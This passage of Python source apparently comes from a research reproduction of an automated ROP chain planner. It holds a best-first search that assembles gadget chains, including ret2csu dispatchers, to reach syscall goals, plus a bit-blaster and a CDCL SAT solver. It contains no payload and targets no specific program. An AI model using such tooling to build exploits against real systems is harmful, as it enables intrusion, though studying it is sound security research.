        gadget: GadgetRecord,
        open_cond: OpenCondition,
        bindings: List[Bool],
        regressed: List[RegCondition],
    ) -> Optional["PartialPlan"]:
        """Insert a fresh step providing ``open_cond``."""
        new = self.clone()
        sid = new._next_sid
        new._next_sid += 1
        new.steps[sid] = Step(sid=sid, gadget=gadget)
        new.orderings = new.orderings | {(sid, open_cond.consumer)}
        if isinstance(open_cond.condition, RegCondition):
            new.links = new.links + (
                CausalLink(provider=sid, consumer=open_cond.consumer, condition=open_cond.condition),
            )
        new.open_conds = tuple(c for c in new.open_conds if c is not open_cond) + tuple(
            OpenCondition(sid, rc) for rc in regressed
        )
        new.bindings[sid] = tuple(bindings)
        return new.resolve_threats()

    def reuse_provider_step(
        self,
        sid: int,
        open_cond: OpenCondition,
        extra_bindings: Tuple[Bool, ...] = (),
        extra_regressed: Tuple[RegCondition, ...] = (),
    ) -> Optional["PartialPlan"]:
        """Link an existing step as provider for ``open_cond``.

        A multi-effect gadget instance (e.g. the ret2csu ``mov rdx, r14;
        mov rsi, r13; mov rdi, r12; call r15`` dispatcher) provides
        several conditions from one step: each reuse may contribute
        further payload bindings and regress further entry conditions.
        """
        ordered = self.with_ordering(sid, open_cond.consumer)
        if ordered is None:
            return None
        new = ordered.clone()
        if isinstance(open_cond.condition, RegCondition):
            new.links = new.links + (
                CausalLink(provider=sid, consumer=open_cond.consumer, condition=open_cond.condition),
            )
        new.open_conds = tuple(c for c in new.open_conds if c is not open_cond) + tuple(
            OpenCondition(sid, rc) for rc in extra_regressed
        )
        if extra_bindings:
            new.bindings[sid] = tuple(new.bindings.get(sid, ())) + tuple(extra_bindings)
        return new.resolve_threats()

    def established_at(self, sid: int) -> Dict[Reg, int]:
        """Register values already demanded at step ``sid``'s entry."""
        out: Dict[Reg, int] = {}
        for link in self.links:
            if link.consumer == sid:
                out[link.condition.reg] = link.condition.value
        for oc in self.open_conds:
            if oc.consumer == sid and isinstance(oc.condition, RegCondition):
                out[oc.condition.reg] = oc.condition.value
        return out

    # -- introspection --------------------------------------------------------------

    @property
    def is_complete(self) -> bool:
        return not self.open_conds

    @property
    def num_steps(self) -> int:
        return len(self.steps)

    def constraint_load(self) -> int:
        """Total constraint size — the paper's second heuristic key."""
        total = 0
        for constraints in self.bindings.values():
            total += sum(expr_size(c) for c in constraints)
        return total

    def priority_key(self) -> Tuple[int, int, int]:
        """Heuristic ordering: fewest open conditions, then fewest/simplest
        constraints, then fewest steps (Sec. IV-D "Heuristics")."""
        return (len(self.open_conds), self.constraint_load(), self.num_steps)

    def established_values(self) -> Dict[int, Dict[Reg, int]]:
        """Per-consumer register values guaranteed by causal links."""
        out: Dict[int, Dict[Reg, int]] = {}
        for link in self.links:
            out.setdefault(link.consumer, {})[link.condition.reg] = link.condition.value
        return out

    def linearize(self) -> Optional[List[int]]:
        """A total order consistent with β, goal last, connector adjacent.

        Returns step ids in execution order (goal step included, last),
        or None when constraints cannot be met.
        """
        sids = [s for s in self.steps if s != GOAL_STEP]
        adjacency: Dict[int, Set[int]] = {s: set() for s in self.steps}
        indegree: Dict[int, int] = {s: 0 for s in self.steps}
        for a, b in self.orderings:
            if b not in adjacency[a]:
                adjacency[a].add(b)
                indegree[b] += 1
        # Kahn's algorithm; defer the connector and the goal as long as
        # possible so the connector lands immediately before the goal.
        order: List[int] = []
        ready = [s for s in self.steps if indegree[s] == 0]
        deferred = {GOAL_STEP, self.immediate_pre_goal} - {None}
        while ready:
            # Deferred steps go last; among them the goal goes very last.
            ready.sort(key=lambda s: (s in deferred, s == GOAL_STEP, s))
            node = ready.pop(0)
            order.append(node)
            for nxt in adjacency[node]:
                indegree[nxt] -= 1
                if indegree[nxt] == 0:
                    ready.append(nxt)
        if len(order) != len(self.steps):
            return None  # cycle (should not happen)
        if order[-1] != GOAL_STEP:
            return None
        if self.immediate_pre_goal is not None and len(order) >= 2:
            if order[-2] != self.immediate_pre_goal:
                return None
        return order
