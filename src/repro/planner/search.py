"""The planning search — Algorithm 1.

Greedy best-first search over partial plans, backward from the goal:
pop the most promising partial plan, pick an open condition, generate a
successor per provider (existing step or fresh gadget), discard plans
with unsatisfiable constraints or unresolvable threats, output complete
plans, keep going until the queue empties or budgets run out — the
paper's planner "does not stop when finding one gadget chain".
"""

from __future__ import annotations

import heapq
import itertools
from dataclasses import dataclass
from typing import Iterator, List, Optional

from ..obs import span
from ..solver.solver import Solver
from .conditions import (
    MemCondition,
    RegCondition,
    discharge_preconditions,
    provide_mem_condition,
    provide_reg_condition,
    regress_equation,
)
from .goals import ResolvedGoal
from .library import ChainKind, GadgetLibrary
from .plan import GOAL_STEP, OpenCondition, PartialPlan


@dataclass
class PlannerConfig:
    """Search budgets and knobs."""

    max_nodes: int = 4000  # partial plans expanded
    max_plans: int = 12  # complete plans to emit per goal
    max_steps: int = 10  # gadget instances per plan
    providers_per_cond: int = 6  # branching factor cap
    max_goal_gadgets: int = 256  # syscall gadgets to seed from (dead seeds are cheap)
    allow_connectors: bool = True


@dataclass
class SearchStats:
    nodes_expanded: int = 0
    plans_emitted: int = 0
    dead_ends: int = 0
    seeds: int = 0


def _seed_plans(
    library: GadgetLibrary,
    resolved: ResolvedGoal,
    solver: Solver,
    config: PlannerConfig,
) -> List[PartialPlan]:
    """One initial plan per viable syscall gadget (Algorithm 1 line 4)."""
    seeds: List[PartialPlan] = []
    for goal_gadget in library.goal_gadgets[: config.max_goal_gadgets]:
        bindings: List = []
        open_regs: List[RegCondition] = []
        feasible = True
        for reg, value in resolved.reg_values.items():
            post = goal_gadget.post_regs[reg]
            provision = regress_equation(post, value, solver)
            if provision is None:
                feasible = False
                break
            bindings.extend(provision.bindings)
            open_regs.extend(provision.regressed)
        if not feasible:
            continue
        pre = discharge_preconditions(goal_gadget, solver)
        if pre is None:
            continue
        bindings.extend(pre.bindings)
        open_regs.extend(pre.regressed)
        mem_conds = [
            MemCondition(addr=addr, value=word)
            for mg in resolved.memory_goals
            for addr, word in mg.words()
        ]
        seeds.append(PartialPlan.initial(goal_gadget, open_regs, mem_conds, bindings))
    return seeds


def search_plans(
    library: GadgetLibrary,
    resolved: ResolvedGoal,
    *,
    solver: Optional[Solver] = None,
    config: Optional[PlannerConfig] = None,
    stats: Optional[SearchStats] = None,
    locator=None,
) -> Iterator[PartialPlan]:
    """Yield complete plans, best-first (Algorithm 1).

    ``locator`` (value → static address of those bytes, or None)
    enables data-reuse providers; see
    :func:`repro.planner.conditions.provide_reg_condition`.
    """
    solver = solver or Solver()
    config = config or PlannerConfig()
    stats = stats if stats is not None else SearchStats()

    counter = itertools.count()
    queue: List = []

    def push(plan: PartialPlan) -> None:
        heapq.heappush(queue, (plan.priority_key(), next(counter), plan))

    # The span brackets the whole search, staying open across yields
    # (this is a generator); counters are stamped in the finally so an
    # abandoned search still reports the work it did.
    search_sp = span("plan.search")
    search_sp.__enter__()
    try:
        for seed in _seed_plans(library, resolved, solver, config):
            stats.seeds += 1
            push(seed)

        emitted = 0
        while queue and stats.nodes_expanded < config.max_nodes and emitted < config.max_plans:
            _, _, plan = heapq.heappop(queue)
            if plan.is_complete:
                emitted += 1
                stats.plans_emitted += 1
                yield plan
                continue
            stats.nodes_expanded += 1
            open_cond = plan.open_conds[0]
            successors = list(_expand(plan, open_cond, library, solver, config, locator))
            if not successors:
                stats.dead_ends += 1
            for successor in successors:
                push(successor)
    finally:
        search_sp.add("seeds", stats.seeds)
        search_sp.add("nodes_expanded", stats.nodes_expanded)
        search_sp.add("plans_emitted", stats.plans_emitted)
        search_sp.add("dead_ends", stats.dead_ends)
        search_sp.__exit__(None, None, None)


def _expand(
    plan: PartialPlan,
    open_cond: OpenCondition,
    library: GadgetLibrary,
    solver: Solver,
    config: PlannerConfig,
    locator=None,
) -> Iterator[PartialPlan]:
    condition = open_cond.condition
    if isinstance(condition, RegCondition):
        yield from _expand_reg(plan, open_cond, condition, library, solver, config, locator)
    elif isinstance(condition, MemCondition):
        yield from _expand_mem(plan, open_cond, condition, library, solver, config)
    else:  # pragma: no cover - no other condition kinds
        raise AssertionError(condition)


def _expand_reg(
    plan: PartialPlan,
    open_cond: OpenCondition,
    condition: RegCondition,
    library: GadgetLibrary,
    solver: Solver,
    config: PlannerConfig,
    locator=None,
) -> Iterator[PartialPlan]:
    # (a) Reuse an existing step: either it already yields the value
    # (constant post), or it can be *made* to yield it by regressing
    # further entry conditions onto the same instance — how one ret2csu
    # dispatcher step provides rdi, rsi and rdx at once.
    for sid, step in plan.steps.items():
        if sid == open_cond.consumer or sid == GOAL_STEP:
            continue
        if condition.reg not in step.gadget.clob_regs:
            continue
        provision = provide_reg_condition(step.gadget, condition, solver, locator=locator)
        if provision is None:
            continue
        already = plan.established_at(sid)
        if any(already.get(rc.reg, rc.value) != rc.value for rc in provision.regressed):
            continue  # conflicting demand on this instance's entry state
        new_regressed = tuple(
            rc for rc in provision.regressed if already.get(rc.reg) != rc.value
        )
        reused = plan.reuse_provider_step(
            sid, open_cond, tuple(provision.bindings), new_regressed
        )
        if reused is not None:
            yield reused
    # (b) Instantiate a fresh provider from the library.
    if plan.num_steps >= config.max_steps:
        return
    produced = 0
    for gadget in library.providers_for(condition.reg):
        if produced >= config.providers_per_cond:
            break
        kind = library.kind_of(gadget)
        if kind is ChainKind.CONNECTOR:
            if not config.allow_connectors:
                continue
            if plan.immediate_pre_goal is not None:
                continue
            if open_cond.consumer != GOAL_STEP:
                continue  # connectors only wire directly into the goal
        provision = provide_reg_condition(gadget, condition, solver, locator=locator)
        if provision is None:
            continue
        regressed = list(provision.regressed)
        bindings = list(provision.bindings)
        if kind is ChainKind.CONNECTOR:
            # The connector's indirect jump must land on the goal gadget.
            goal_gadget = plan.steps[GOAL_STEP].gadget
            from .conditions import target_provision

            tp = target_provision(gadget, goal_gadget.location, solver)
            if tp is None:
                # Target depends on a register: regress it as a condition.
                from ..symex.expr import BVSym

                target = gadget.jump_target
                if isinstance(target, BVSym) and target.name.endswith("0"):
                    from ..isa.registers import reg_by_name

                    regressed.append(
                        RegCondition(reg=reg_by_name(target.name[:-1]), value=goal_gadget.location)
                    )
                else:
                    continue
            else:
                bindings.extend(tp.bindings)
                regressed.extend(tp.regressed)
        successor = plan.add_provider_step(gadget, open_cond, bindings, regressed)
        if successor is None:
            continue
        if kind is ChainKind.CONNECTOR:
            successor.immediate_pre_goal = successor._next_sid - 1
        produced += 1
        yield successor


def _expand_mem(
    plan: PartialPlan,
    open_cond: OpenCondition,
    condition: MemCondition,
    library: GadgetLibrary,
    solver: Solver,
    config: PlannerConfig,
) -> Iterator[PartialPlan]:
    if plan.num_steps >= config.max_steps:
        return
    produced = 0
    for gadget in library.writers:
        if produced >= config.providers_per_cond:
            break
        if library.kind_of(gadget) is ChainKind.CONNECTOR:
            continue  # keep write steps freely orderable
        provision = provide_mem_condition(gadget, condition, solver)
        if provision is None:
            continue
        successor = plan.add_provider_step(
            gadget, open_cond, list(provision.bindings), list(provision.regressed)
        )
        if successor is not None:
            produced += 1
            yield successor
