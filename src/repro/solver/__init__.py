"""Constraint solving: CDCL SAT core, bit-blaster, and BV frontend."""

from .sat import SATBudgetExceeded, SATResult, SATSolver, solve_clauses
from .bitblast import BitBlaster, BlastError
from .solver import DEFAULT_SOLVER, Solver, SolverResult, Status, check, prove

__all__ = [
    "BitBlaster",
    "BlastError",
    "DEFAULT_SOLVER",
    "SATBudgetExceeded",
    "SATResult",
    "SATSolver",
    "Solver",
    "SolverResult",
    "Status",
    "check",
    "prove",
    "solve_clauses",
]
