"""Tseitin bit-blasting of bit-vector expressions to CNF.

Each 64-bit expression becomes a vector of 64 "bits" (LSB first), where
a bit is either a Python ``bool`` (a known constant — kept out of the
CNF entirely) or a SAT literal.  Expression nodes are cached
structurally, so shared subtrees are encoded once.
"""

from __future__ import annotations

from typing import Dict, List, Union

from ..symex.expr import (
    BV,
    BVBin,
    BVBinOp,
    BVConst,
    BVIte,
    BVSym,
    BVUn,
    BVUnOp,
    Bool,
    BoolConn,
    BoolConst,
    BoolExpr,
    Cmp,
    CmpOp,
)
from .sat import SATSolver

WIDTH = 64

Bit = Union[bool, int]  # constant or SAT literal


class BlastError(ValueError):
    """An expression form the blaster cannot encode."""


class BitBlaster:
    """Encodes expressions into a :class:`SATSolver` instance."""

    def __init__(self, solver: SATSolver):
        self.solver = solver
        self._bv_cache: Dict[BV, List[Bit]] = {}
        self._bool_cache: Dict[Bool, Bit] = {}
        self._sym_bits: Dict[str, List[int]] = {}

    # -- gate primitives ----------------------------------------------------

    def _new_lit(self) -> int:
        return self.solver.new_var()

    def _gate_and(self, a: Bit, b: Bit) -> Bit:
        if a is False or b is False:
            return False
        if a is True:
            return b
        if b is True:
            return a
        if a == b:
            return a
        out = self._new_lit()
        self.solver.add_clause([-out, a])
        self.solver.add_clause([-out, b])
        self.solver.add_clause([out, -a, -b])
        return out

    def _gate_or(self, a: Bit, b: Bit) -> Bit:
        return self._neg(self._gate_and(self._neg(a), self._neg(b)))

    def _gate_xor(self, a: Bit, b: Bit) -> Bit:
        if a is False:
            return b
        if b is False:
            return a
        if a is True:
            return self._neg(b)
        if b is True:
            return self._neg(a)
        if a == b:
            return False
        out = self._new_lit()
        self.solver.add_clause([-out, a, b])
        self.solver.add_clause([-out, -a, -b])
        self.solver.add_clause([out, -a, b])
        self.solver.add_clause([out, a, -b])
        return out

    @staticmethod
    def _neg(a: Bit) -> Bit:
        if isinstance(a, bool):
            return not a
        return -a

    def _gate_mux(self, sel: Bit, then: Bit, other: Bit) -> Bit:
        """out = sel ? then : other."""
        if sel is True:
            return then
        if sel is False:
            return other
        if then == other:
            return then
        return self._gate_or(self._gate_and(sel, then), self._gate_and(self._neg(sel), other))

    def _full_adder(self, a: Bit, b: Bit, c: Bit) -> tuple[Bit, Bit]:
        s = self._gate_xor(self._gate_xor(a, b), c)
        carry = self._gate_or(self._gate_and(a, b), self._gate_and(c, self._gate_xor(a, b)))
        return s, carry

    # -- vector operations ----------------------------------------------------

    def _add_vec(self, a: List[Bit], b: List[Bit], carry_in: Bit = False) -> List[Bit]:
        out: List[Bit] = []
        carry = carry_in
        for bit_a, bit_b in zip(a, b):
            s, carry = self._full_adder(bit_a, bit_b, carry)
            out.append(s)
        return out

    def _neg_vec(self, a: List[Bit]) -> List[Bit]:
        inverted = [self._neg(x) for x in a]
        return self._add_vec(inverted, self._const_vec(1))

    def _sub_vec(self, a: List[Bit], b: List[Bit]) -> List[Bit]:
        inverted = [self._neg(x) for x in b]
        return self._add_vec(a, inverted, carry_in=True)

    def _mul_vec(self, a: List[Bit], b: List[Bit]) -> List[Bit]:
        acc = self._const_vec(0)
        for i, bit in enumerate(b):
            if bit is False:
                continue
            partial = [False] * i + [self._gate_and(x, bit) for x in a[: WIDTH - i]]
            acc = self._add_vec(acc, partial)
        return acc

    @staticmethod
    def _const_vec(value: int) -> List[Bit]:
        return [bool((value >> i) & 1) for i in range(WIDTH)]

    def _ult_vec(self, a: List[Bit], b: List[Bit]) -> Bit:
        """Unsigned a < b via borrow chain from LSB."""
        lt: Bit = False
        for bit_a, bit_b in zip(a, b):
            same = self._neg(self._gate_xor(bit_a, bit_b))
            this_lt = self._gate_and(self._neg(bit_a), bit_b)
            lt = self._gate_or(this_lt, self._gate_and(same, lt))
        return lt

    def _eq_vec(self, a: List[Bit], b: List[Bit]) -> Bit:
        acc: Bit = True
        for bit_a, bit_b in zip(a, b):
            acc = self._gate_and(acc, self._neg(self._gate_xor(bit_a, bit_b)))
        return acc

    def _slt_vec(self, a: List[Bit], b: List[Bit]) -> Bit:
        sign_a, sign_b = a[-1], b[-1]
        diff_sign = self._gate_xor(sign_a, sign_b)
        ult = self._ult_vec(a, b)
        # If signs differ, a<b iff a is negative; else unsigned compare.
        return self._gate_mux(diff_sign, sign_a, ult)

    # -- expression encoding ----------------------------------------------------

    def sym_bits(self, name: str) -> List[int]:
        """SAT literals for a named 64-bit symbol (allocated on demand)."""
        bits = self._sym_bits.get(name)
        if bits is None:
            bits = [self._new_lit() for _ in range(WIDTH)]
            self._sym_bits[name] = bits
        return bits

    def blast_bv(self, expr: BV) -> List[Bit]:
        cached = self._bv_cache.get(expr)
        if cached is not None:
            return cached
        bits = self._blast_bv_inner(expr)
        self._bv_cache[expr] = bits
        return bits

    def _blast_bv_inner(self, expr: BV) -> List[Bit]:
        if isinstance(expr, BVConst):
            return self._const_vec(expr.value)
        if isinstance(expr, BVSym):
            return list(self.sym_bits(expr.name))
        if isinstance(expr, BVUn):
            arg = self.blast_bv(expr.arg)
            if expr.op is BVUnOp.NOT:
                return [self._neg(x) for x in arg]
            return self._neg_vec(arg)
        if isinstance(expr, BVIte):
            sel = self.blast_bool(expr.cond)
            then = self.blast_bv(expr.then)
            other = self.blast_bv(expr.other)
            return [self._gate_mux(sel, t, o) for t, o in zip(then, other)]
        if isinstance(expr, BVBin):
            return self._blast_bin(expr)
        raise BlastError(f"cannot blast {expr!r}")

    def _blast_bin(self, expr: BVBin) -> List[Bit]:
        op = expr.op
        a = self.blast_bv(expr.lhs)
        if op in (BVBinOp.SHL, BVBinOp.SHR, BVBinOp.SAR):
            if not isinstance(expr.rhs, BVConst):
                raise BlastError("shift amount must be constant")
            amount = expr.rhs.value & 0x3F
            if op is BVBinOp.SHL:
                return [False] * amount + a[: WIDTH - amount]
            if op is BVBinOp.SHR:
                return a[amount:] + [False] * amount
            sign = a[-1]
            return a[amount:] + [sign] * amount
        b = self.blast_bv(expr.rhs)
        if op is BVBinOp.ADD:
            return self._add_vec(a, b)
        if op is BVBinOp.SUB:
            return self._sub_vec(a, b)
        if op is BVBinOp.AND:
            return [self._gate_and(x, y) for x, y in zip(a, b)]
        if op is BVBinOp.OR:
            return [self._gate_or(x, y) for x, y in zip(a, b)]
        if op is BVBinOp.XOR:
            return [self._gate_xor(x, y) for x, y in zip(a, b)]
        if op is BVBinOp.MUL:
            return self._mul_vec(a, b)
        if op in (BVBinOp.UDIV, BVBinOp.UMOD):
            return self._blast_divmod(a, b, want_div=op is BVBinOp.UDIV)
        raise BlastError(f"cannot blast binop {op}")  # pragma: no cover

    def _blast_divmod(self, a: List[Bit], b: List[Bit], want_div: bool) -> List[Bit]:
        """Encode unsigned division via restoring long division.

        Processing from the MSB down keeps every intermediate remainder
        < divisor, so 64-bit arithmetic suffices (no 128-bit product).
        Semantics match the emulator-adjacent folding rules:
        ``x / 0 == 0`` and ``x % 0 == x``.
        """
        quotient: List[Bit] = [False] * WIDTH
        remainder: List[Bit] = self._const_vec(0)
        for i in reversed(range(WIDTH)):
            # remainder = (remainder << 1) | a[i]
            remainder = [a[i]] + remainder[: WIDTH - 1]
            # if remainder >= b: remainder -= b ; quotient[i] = 1
            geq = self._neg(self._ult_vec(remainder, b))
            sub = self._sub_vec(remainder, b)
            remainder = [self._gate_mux(geq, s, r) for s, r in zip(sub, remainder)]
            quotient[i] = geq
        b_is_zero = self._eq_vec(b, self._const_vec(0))
        if want_div:
            return [self._gate_mux(b_is_zero, False, q) for q in quotient]
        return [self._gate_mux(b_is_zero, x, r) for x, r in zip(a, remainder)]

    def blast_bool(self, expr: Bool) -> Bit:
        cached = self._bool_cache.get(expr)
        if cached is not None:
            return cached
        bit = self._blast_bool_inner(expr)
        self._bool_cache[expr] = bit
        return bit

    def _blast_bool_inner(self, expr: Bool) -> Bit:
        if isinstance(expr, BoolConst):
            return expr.value
        if isinstance(expr, Cmp):
            a = self.blast_bv(expr.lhs)
            b = self.blast_bv(expr.rhs)
            if expr.op is CmpOp.EQ:
                return self._eq_vec(a, b)
            if expr.op is CmpOp.NE:
                return self._neg(self._eq_vec(a, b))
            if expr.op is CmpOp.ULT:
                return self._ult_vec(a, b)
            if expr.op is CmpOp.ULE:
                return self._neg(self._ult_vec(b, a))
            if expr.op is CmpOp.SLT:
                return self._slt_vec(a, b)
            if expr.op is CmpOp.SLE:
                return self._neg(self._slt_vec(b, a))
            raise BlastError(f"cannot blast cmp {expr.op}")  # pragma: no cover
        if isinstance(expr, BoolExpr):
            if expr.conn is BoolConn.NOT:
                return self._neg(self.blast_bool(expr.args[0]))
            bits = [self.blast_bool(a) for a in expr.args]
            acc: Bit = expr.conn is BoolConn.AND
            for bit in bits:
                if expr.conn is BoolConn.AND:
                    acc = self._gate_and(acc, bit)
                else:
                    acc = self._gate_or(acc, bit)
            return acc
        raise BlastError(f"cannot blast {expr!r}")

    # -- top-level assertion and model extraction -------------------------------

    def assert_bool(self, expr: Bool) -> None:
        """Assert that ``expr`` holds."""
        bit = self.blast_bool(expr)
        if bit is True:
            return
        if bit is False:
            # Directly unsatisfiable: add the empty clause.
            self.solver.add_clause([])
            return
        self.solver.add_clause([bit])

    def extract_value(self, name: str, model: Dict[int, bool]) -> int:
        """Recover a symbol's 64-bit value from a SAT model."""
        bits = self._sym_bits.get(name)
        if bits is None:
            return 0  # unconstrained symbol: any value works
        value = 0
        for i, lit in enumerate(bits):
            if model.get(lit, False):
                value |= 1 << i
        return value
