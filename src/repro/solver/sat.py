"""A CDCL SAT solver.

This is the decision core underneath the bit-vector solver: conflict-
driven clause learning with two-watched-literal propagation, VSIDS-style
activity-based branching, first-UIP learning, and Luby restarts.  It is
deliberately dependency-free; performance is adequate for the clause
sizes that gadget subsumption and plan-constraint queries produce
(thousands to low hundreds of thousands of clauses).

Literals use the DIMACS convention: variables are positive integers,
a negated literal is the negative integer.
"""

from __future__ import annotations

from typing import Dict, Iterable, List, Optional, Sequence


class SATResult:
    """Outcome of a :meth:`SATSolver.solve` call.

    ``conflicts`` reports the CDCL conflicts the verdict cost — the
    effort signal the observability layer histograms per check.
    """

    __slots__ = ("satisfiable", "model", "conflicts")

    def __init__(
        self,
        satisfiable: bool,
        model: Optional[Dict[int, bool]] = None,
        conflicts: int = 0,
    ):
        self.satisfiable = satisfiable
        self.model = model or {}
        self.conflicts = conflicts

    def __bool__(self) -> bool:
        return self.satisfiable

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return (
            f"SATResult(sat={self.satisfiable}, |model|={len(self.model)}, "
            f"conflicts={self.conflicts})"
        )


def _luby(i: int) -> int:
    """The Luby restart sequence (1-indexed): 1 1 2 1 1 2 4 1 1 2 ..."""
    while True:
        k = 1
        while (1 << k) - 1 < i:
            k += 1
        if (1 << k) - 1 == i:
            return 1 << (k - 1)
        i = i - (1 << (k - 1)) + 1


class SATSolver:
    """CDCL with two-watched literals and first-UIP clause learning."""

    def __init__(self) -> None:
        self.num_vars = 0
        self.clauses: List[List[int]] = []
        self._watches: Dict[int, List[int]] = {}  # literal -> clause indices
        self.assignment: Dict[int, bool] = {}
        self._trail: List[int] = []  # literals in assignment order
        self._trail_lim: List[int] = []  # trail indices at decision levels
        self._reason: Dict[int, Optional[int]] = {}  # var -> clause index
        self._level: Dict[int, int] = {}
        self._activity: Dict[int, float] = {}
        self._var_inc = 1.0
        self._var_decay = 0.95
        self._propagate_head = 0
        self._ok = True

    # -- problem construction ------------------------------------------------

    def new_var(self) -> int:
        self.num_vars += 1
        self._activity[self.num_vars] = 0.0
        return self.num_vars

    def add_clause(self, lits: Iterable[int]) -> None:
        """Add a clause; duplicate literals removed, tautologies dropped."""
        seen = set()
        clause: List[int] = []
        for lit in lits:
            if lit == 0:
                raise ValueError("0 is not a literal")
            if -lit in seen:
                return  # tautology
            if lit not in seen:
                seen.add(lit)
                clause.append(lit)
            self.num_vars = max(self.num_vars, abs(lit))
            self._activity.setdefault(abs(lit), 0.0)
        if not clause:
            self._ok = False
            return
        if len(clause) == 1:
            # Unit clause: assign immediately at level 0 (defer conflicts).
            lit = clause[0]
            var = abs(lit)
            value = lit > 0
            if var in self.assignment:
                if self.assignment[var] != value:
                    self._ok = False
                return
            self._assign(lit, reason=None)
            return
        index = len(self.clauses)
        self.clauses.append(clause)
        self._watch(clause[0], index)
        self._watch(clause[1], index)

    def _watch(self, lit: int, clause_index: int) -> None:
        self._watches.setdefault(lit, []).append(clause_index)

    # -- assignment machinery ------------------------------------------------

    def _value(self, lit: int) -> Optional[bool]:
        var = abs(lit)
        if var not in self.assignment:
            return None
        value = self.assignment[var]
        return value if lit > 0 else not value

    def _assign(self, lit: int, reason: Optional[int]) -> None:
        var = abs(lit)
        self.assignment[var] = lit > 0
        self._reason[var] = reason
        self._level[var] = len(self._trail_lim)
        self._trail.append(lit)

    def _propagate(self) -> Optional[int]:
        """Unit propagation; returns a conflicting clause index or None."""
        while self._propagate_head < len(self._trail):
            lit = self._trail[self._propagate_head]
            self._propagate_head += 1
            false_lit = -lit
            watch_list = self._watches.get(false_lit, [])
            new_watch_list: List[int] = []
            conflict = None
            i = 0
            while i < len(watch_list):
                ci = watch_list[i]
                i += 1
                clause = self.clauses[ci]
                # Ensure false_lit is at position 1.
                if clause[0] == false_lit:
                    clause[0], clause[1] = clause[1], clause[0]
                first = clause[0]
                if self._value(first) is True:
                    new_watch_list.append(ci)
                    continue
                # Look for a new literal to watch.
                moved = False
                for k in range(2, len(clause)):
                    if self._value(clause[k]) is not False:
                        clause[1], clause[k] = clause[k], clause[1]
                        self._watch(clause[1], ci)
                        moved = True
                        break
                if moved:
                    continue
                new_watch_list.append(ci)
                if self._value(first) is False:
                    # Conflict: keep remaining watches, report.
                    new_watch_list.extend(watch_list[i:])
                    conflict = ci
                    break
                self._assign(first, reason=ci)
            self._watches[false_lit] = new_watch_list
            if conflict is not None:
                return conflict
        return None

    # -- conflict analysis -----------------------------------------------------

    def _bump(self, var: int) -> None:
        self._activity[var] = self._activity.get(var, 0.0) + self._var_inc
        if self._activity[var] > 1e100:
            for v in self._activity:
                self._activity[v] *= 1e-100
            self._var_inc *= 1e-100

    def _analyze(self, conflict: int) -> tuple[List[int], int]:
        """First-UIP conflict analysis → (learned clause, backjump level)."""
        current_level = len(self._trail_lim)
        learned: List[int] = [0]  # placeholder for the asserting literal
        seen = set()
        counter = 0
        lit = None
        index = len(self._trail) - 1
        clause = self.clauses[conflict]
        while True:
            for q in clause:
                if lit is not None and q == lit:
                    continue
                var = abs(q)
                if var in seen or self._level.get(var, 0) == 0:
                    continue
                seen.add(var)
                self._bump(var)
                if self._level[var] == current_level:
                    counter += 1
                else:
                    learned.append(q)
            # Find the next literal on the trail to resolve on.
            while abs(self._trail[index]) not in seen:
                index -= 1
            lit = self._trail[index]
            index -= 1
            var = abs(lit)
            seen.discard(var)
            counter -= 1
            if counter == 0:
                learned[0] = -lit
                break
            reason = self._reason[var]
            assert reason is not None
            clause = self.clauses[reason]
        if len(learned) == 1:
            return learned, 0
        levels = sorted({self._level[abs(q)] for q in learned[1:]}, reverse=True)
        return learned, levels[0]

    def _backjump(self, level: int) -> None:
        while len(self._trail_lim) > level:
            limit = self._trail_lim.pop()
            while len(self._trail) > limit:
                lit = self._trail.pop()
                var = abs(lit)
                del self.assignment[var]
                self._reason.pop(var, None)
                self._level.pop(var, None)
        self._propagate_head = min(self._propagate_head, len(self._trail))

    def _decide(self) -> Optional[int]:
        best_var = None
        best_act = -1.0
        for var in range(1, self.num_vars + 1):
            if var not in self.assignment:
                act = self._activity.get(var, 0.0)
                if act > best_act:
                    best_act = act
                    best_var = var
        if best_var is None:
            return None
        return -best_var  # negative-first polarity: zeros are common in BV models

    # -- main loop -----------------------------------------------------------

    def solve(self, max_conflicts: Optional[int] = None) -> SATResult:
        """Run CDCL; ``max_conflicts`` bounds effort (None = unbounded).

        Raises :class:`SATBudgetExceeded` when the conflict budget runs
        out, so callers can distinguish "unsat" from "gave up".
        """
        if not self._ok:
            return SATResult(False)
        if self._propagate() is not None:
            return SATResult(False)
        conflicts = 0
        restart_count = 1
        restart_limit = 32 * _luby(restart_count)
        conflicts_since_restart = 0
        while True:
            conflict = self._propagate()
            if conflict is not None:
                conflicts += 1
                conflicts_since_restart += 1
                if max_conflicts is not None and conflicts > max_conflicts:
                    raise SATBudgetExceeded(conflicts)
                if not self._trail_lim:
                    return SATResult(False, conflicts=conflicts)
                learned, back_level = self._analyze(conflict)
                self._backjump(back_level)
                if len(learned) == 1:
                    self._assign(learned[0], reason=None)
                else:
                    index = len(self.clauses)
                    self.clauses.append(learned)
                    self._watch(learned[0], index)
                    self._watch(learned[1], index)
                    self._assign(learned[0], reason=index)
                self._var_inc /= self._var_decay
                if conflicts_since_restart >= restart_limit:
                    restart_count += 1
                    restart_limit = 32 * _luby(restart_count)
                    conflicts_since_restart = 0
                    self._backjump(0)
            else:
                decision = self._decide()
                if decision is None:
                    model = dict(self.assignment)
                    for var in range(1, self.num_vars + 1):
                        model.setdefault(var, False)
                    return SATResult(True, model, conflicts=conflicts)
                self._trail_lim.append(len(self._trail))
                self._assign(decision, reason=None)


class SATBudgetExceeded(Exception):
    """The conflict budget was exhausted before a verdict."""

    def __init__(self, conflicts: int):
        super().__init__(f"SAT budget exceeded after {conflicts} conflicts")
        self.conflicts = conflicts


def solve_clauses(clauses: Sequence[Sequence[int]], max_conflicts: Optional[int] = None) -> SATResult:
    """One-shot convenience wrapper."""
    solver = SATSolver()
    for clause in clauses:
        solver.add_clause(clause)
    return solver.solve(max_conflicts=max_conflicts)
