"""Bit-vector constraint solver frontend (the Z3 stand-in).

Layered decision procedure:

1. **Syntactic**: smart-constructor folding already reduced each
   constraint; a ``FALSE`` conjunct is UNSAT, all-``TRUE`` is SAT.
2. **Equality propagation**: ``sym == const`` conjuncts are substituted
   through the rest and the system re-simplified to a fixpoint.  This
   alone discharges the vast majority of plan-binding queries
   ("stack slot 3 must equal 59").
3. **Random sampling**: a handful of random assignments to the free
   variables; any hit is a model.  Catches loose constraint systems
   without touching CNF.
4. **Bit-blasting + CDCL SAT** (:mod:`repro.solver.bitblast`,
   :mod:`repro.solver.sat`) as the complete fallback, with a conflict
   budget so pathological queries return UNKNOWN instead of hanging.
"""

